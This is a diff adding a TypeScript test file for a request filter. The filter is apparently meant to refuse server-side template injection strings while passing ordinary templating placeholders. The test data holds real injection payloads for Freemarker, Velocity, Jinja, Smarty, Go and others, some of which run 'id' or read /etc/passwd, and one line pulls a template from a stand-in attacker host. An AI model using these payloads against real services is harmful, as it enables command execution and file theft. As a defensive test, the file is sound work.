@@ -1,0 +1,100 @@
+// What stands between a template's marks: expressions that no placeholder is are refused wherever they stand, placeholders
+// of mails, pipelines and manifests are not.
+
+import { describe, expect, test } from 'vitest'
+
+import { payloadGuard } from '../corpora/guard.ts'
+import { placements } from '../corpora/placements.ts'
+
+const judge = payloadGuard({})
+
+const isRefused = (place: string, text: string): boolean => {
+  const exchange = placements[place]?.(text).exchange
+  return exchange === undefined || judge(exchange).kind === 'deny'
+}
+
+const ATTACKS: Readonly<Record<string, readonly string[]>> = {
+  'arithmetic on literals': [
+    '{{7**7}}',
+    '{{{7*7}}}',
+    '{{0x10*2}}',
+    '{{ 7 | times: 7 }}',
+    '{{7*-7}}',
+    'a {5*5} b',
+    '{=7+7}',
+    "{'7'*7}",
+    '!{7*7}',
+    '[=7*7]',
+    '{!! 7**2 !!}',
+  ],
+  Freemarker: ['[="freemarker.template.utility.Execute"?new()("id")]', 'x ${.version}', '[=.globals?keys]'],
+  Velocity: [
+    'x $x.getClass().getClassLoader()',
+    '$!class.inspect("java.lang.System")',
+    '#macro(x)$y.class.forName("a")#end',
+    '#{set}($x=7*7)${x}',
+  ],
+  'Spring, OGNL': [
+    "${environment.getProperty('x')}",
+    "#{systemEnvironment['PATH']}",
+    '%{#session.user}',
+    "${(#ct=#request['struts.valueStack'].context)}",
+  ],
+  Mako: ['<%include file="/etc/passwd"/>', '${dir(context)}'],
+  'Ruby, Node': [
+    '<%= Object.const_get(:Kernel) %>',
+    '#{ObjectSpace.each_object(Class).to_a}',
+    '<%= __dirname %>',
+    '<%== ENV.to_h %>',
+  ],
+  'Jinja, Django, Tornado': [
+    "{{config.from_pyfile('/etc/passwd')}}",
+    '{{(lipsum|attr(request.args.a))}}',
+    '{% include /etc/passwd %}',
+    '{% extends "http://evil.example/x" %}',
+    '{% filter force_escape %}{% debug %}{% endfilter %}',
+    '{{locals()}}',
+    '{{_context|keys|join}}',
+  ],
+  'Go, Laravel, Smarty, Razor': [
+    '{{.System "id"}}',
+    '{{call .x "id"}}',
+    '{{printf "%#v" .}}',
+    "{{ DB::select('select 1') }}",
+    '{{ `id` }}',
+    '{"id"|passthru}',
+    "{'id'|system}",
+    "{include '/etc/passwd'}",
+    '@{ Response.Write(Server.MapPath(".")); }',
+  ],
+}
+
+const HARMLESS: readonly string[] = [
+  '{{ user.name }} has invited you to {{ team.name | capitalize }}',
+  '{{#if items}}{{#each items}}<li>{{this.title}}</li>{{/each}}{{/if}}',
+  "{{ 'now' | date: '%Y' }} {{ price | times: 2 }}",
+  '{{ .Values.image.repository }}:{{ .Values.image.tag | default "latest" }}',
+  '{{ printf "%s-%s" .Release.Name .Chart.Name | trunc 63 }}',
+  '${{ github.event.pull_request.head.sha }}',
+  '{{=it.name}} {{inputs.parameters.message}} {{workflow.name}}',
+  '<%= user.first_name %>, <%= link_to "x", root_path %>',
+  '{% if customer.name %}Hello {{ customer.name }}{% endif %}',
+  'x^{1/2} + y^{2-n} and a_{i+1}',
+  '{"a":"b","c":{"d":[1,2]}}',
+  '$\\{name\\} ${HOME}/bin ${PATH:-/usr/bin}',
+  '@media (min-width: 10px) { a { color: red } }',
+]
+
+const PLACES = ['query', 'json', 'form', 'multipart', 'xml', 'cookie']
+
+describe('an expression that no placeholder is', () => {
+  const rows = Object.entries(ATTACKS).flatMap(([engine, list]) => list.map((text) => ({ engine, text })))
+  test.each(rows)('$engine: $text', ({ text }) => {
+    expect(PLACES.filter((place) => !isRefused(place, text))).toEqual([])
+    expect(isRefused('json', `Hello, ${text}`)).toBe(true)
+  })
+})
+
+test.each(HARMLESS)('a placeholder is none: %s', (text) => {
+  expect(['json', 'form'].filter((place) => isRefused(place, text))).toEqual([])
+})
